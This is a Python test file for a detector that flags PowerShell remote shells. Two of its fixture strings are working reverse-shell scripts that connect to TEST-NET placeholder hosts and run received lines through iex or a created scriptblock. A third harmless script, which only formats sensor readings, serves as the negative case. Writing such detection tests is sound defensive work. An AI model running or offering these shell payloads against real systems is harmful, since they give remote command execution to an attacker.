"""PowerShell: a line read from a raw connection and handed to one of the script's own functions,
which runs it, is a remote shell, even when the function is written before the connection is
opened. A function that only formats what arrives stays a connection. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_HANDLER_RUNS_IT = """\
param([string]$Site = 'north')
function Resolve-Request {
  param([string]$text)
  if ($text -eq 'ping') { return 'pong' }
  $out = iex $text 2>&1 | Out-String
  return $out
}
$peer = [System.Net.Sockets.TcpClient]::new('198.51.100.31', 5986)
$io = $peer.GetStream()
$in = [System.IO.StreamReader]::new($io)
$back = [System.IO.StreamWriter]::new($io)
while ($peer.Connected) {
  $req = $in.ReadLine()
  $back.WriteLine((Resolve-Request $req))
  $back.Flush()
}
"""

_HANDLER_BUILDS_A_BLOCK = """\
function Use-Order([string]$order) {
  $sb = [scriptblock]::Create($order)
  & $sb
}
$conn = New-Object Net.Sockets.TcpClient('203.0.113.8', 443)
$reader = New-Object IO.StreamReader($conn.GetStream())
while ($true) { Use-Order -order $reader.ReadLine() }
"""

_HANDLER_FORMATS = """\
function Format-Reading([string]$raw) {
  $parts = $raw -split ','
  return ('{0} C at {1}' -f $parts[1], $parts[0])
}
$probe = New-Object System.Net.Sockets.TcpClient('192.0.2.12', 2001)
$sr = New-Object System.IO.StreamReader($probe.GetStream())
while ($probe.Connected) { Write-Host (Format-Reading $sr.ReadLine()) }
"""


def _errors(tmp_path: Path, script: str) -> set[str]:
    found = scan_errors(tmp_path, {"scripts/Sync-Site.ps1": script})
    return {rule for rule, path, _ in found if path == "scripts/Sync-Site.ps1"}


def test_a_received_line_run_by_a_function_of_the_script_is_a_remote_shell(tmp_path: Path) -> None:
    assert "REMOTE_SHELL" in _errors(tmp_path, _HANDLER_RUNS_IT)


def test_a_received_line_made_a_script_block_in_a_function_is_a_remote_shell(tmp_path: Path) -> None:
    assert "REMOTE_SHELL" in _errors(tmp_path, _HANDLER_BUILDS_A_BLOCK)


def test_a_function_that_formats_received_lines_stays_without_errors(tmp_path: Path) -> None:
    assert _errors(tmp_path, _HANDLER_FORMATS) == set()
